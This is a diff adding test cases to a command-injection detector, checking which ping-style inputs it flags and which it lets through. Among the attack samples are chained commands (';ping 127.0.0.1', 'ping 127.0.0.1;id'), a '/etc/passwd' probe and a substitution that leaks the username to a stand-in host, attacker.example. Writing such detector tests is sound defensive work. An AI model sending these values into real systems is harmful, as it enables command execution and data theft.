@@ -396,3 +396,24 @@ describe('cmdi detector: cmd.exe variables and a string layer in between', () =>
     { value: 'prices up 100%Pure%Love', location: 'body' },
   ]);
 });
+
+describe('cmdi detector: a network probe of one host alone in a value', () => {
+  // `ping 127.0.0.1` typed into a search box or a ticket names a host (CRS 932260 must-pass); the
+  // same command with an option, the Enter that submits it, or a separator is still a command line.
+  checkAttacks(detectCmdi, 'cmdi', [
+    { value: 'ping -c 10 127.0.0.1', rule: 'cmdi.command_line' },
+    { value: 'ping 127.0.0.1 -c 3', rule: 'cmdi.command_line' },
+    { value: 'ping 127.0.0.1\n', location: 'body', rule: 'cmdi.command_line' },
+    { value: ';ping 127.0.0.1', rule: 'cmdi.chained_command' },
+    { value: 'ping 127.0.0.1;id' },
+    { value: 'ping 127.0.0.1|id' },
+    { value: 'ping $(whoami).attacker.example', rule: 'cmdi.command_substitution' },
+    { value: 'ping /etc/passwd' },
+  ]);
+  checkBenign(detectCmdi, [
+    { value: 'ping 127.0.0.1' },
+    { value: 'ping 8.8.8.8', location: 'body' },
+    { value: 'traceroute example.com' },
+    { value: 'nslookup mail.example.org' },
+  ]);
+});
